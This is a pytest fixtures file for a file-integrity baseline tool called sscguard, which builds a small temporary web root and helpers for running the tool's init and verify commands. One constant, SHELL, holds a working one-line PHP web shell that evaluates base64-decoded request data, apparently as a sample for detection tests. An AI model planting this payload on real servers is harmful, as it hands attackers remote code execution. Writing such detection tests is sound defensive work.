"""Fixtures for the baseline tests: a small component tree and helpers to run the CLI."""

from __future__ import annotations

import os
import subprocess
import sys
from collections.abc import Callable
from pathlib import Path
from typing import Any

import pytest

SHELL = b'<?php $f = $_POST["c"]; eval(base64_decode($_REQUEST["x"])); ?>\n'


@pytest.fixture()
def www(tmp_path: Path) -> Path:
    """A web root with a page, a text file, a config-like file, a sub-folder and a link."""
    root = tmp_path / "www"
    (root / "app").mkdir(parents=True)
    (root / "index.php").write_text("<?php echo 'hello'; ?>\n")
    (root / "readme.txt").write_text("plain text\n")
    (root / "app" / "config.ini").write_text("[app]\nname=demo\n")
    (root / "current").symlink_to("app")
    return root


@pytest.fixture()
def db(tmp_path: Path) -> Path:
    return tmp_path / "state" / "baseline.db"


def sscguard_cmd(*args: str) -> list[str]:
    return [sys.executable, "-m", "sscguard.cli", *args]


def run_cli(*args: str, env: dict[str, str] | None = None, timeout: float = 120) -> Any:
    full_env = {**os.environ, **(env or {})}
    return subprocess.run(
        sscguard_cmd(*args), capture_output=True, text=True, env=full_env, timeout=timeout
    )


@pytest.fixture()
def init(run: Callable[..., Any], db: Path) -> Callable[..., Any]:
    def do(*paths: Path, extra: tuple[str, ...] = ()) -> Any:
        args = ["baseline", "init", "--db", str(db), "--no-default-locations", "--no-progress"]
        for p in paths:
            args += ["--path", str(p)]
        result = run(*args, "--format", "json", *extra)
        assert result.code in (0, 1), result.err
        return result

    return do


@pytest.fixture()
def verify(run: Callable[..., Any], db: Path) -> Callable[..., Any]:
    def do(*extra: str) -> Any:
        return run("baseline", "verify", "--db", str(db), "--format", "json", *extra)

    return do


def by_subject(doc: dict[str, Any]) -> dict[str, dict[str, Any]]:
    return {f["subject"]["path"]: f for f in doc["findings"]}
